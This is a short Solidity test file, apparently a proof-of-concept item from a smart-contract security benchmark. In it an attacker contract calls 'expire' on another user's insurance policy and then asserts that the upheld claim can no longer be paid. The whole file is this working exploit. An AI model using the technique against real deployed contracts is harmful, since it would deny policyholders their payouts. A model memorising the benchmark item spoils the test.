// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    function run(PolicyBook _book, uint256 _id) external {
        try _book.expire(_id) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    // DEE is paid what was upheld.
    function pays() public {
        if (claims.openOf(DEES) == upheldId) claims.pay(upheldId);
        require(book.policyOf(DEES).paid == 40_000e18, "not paid");
    }

    function exploit() public {
        other.run(book, DEES);
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeCall(this.pays, ()));
        require(!done, "paid");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
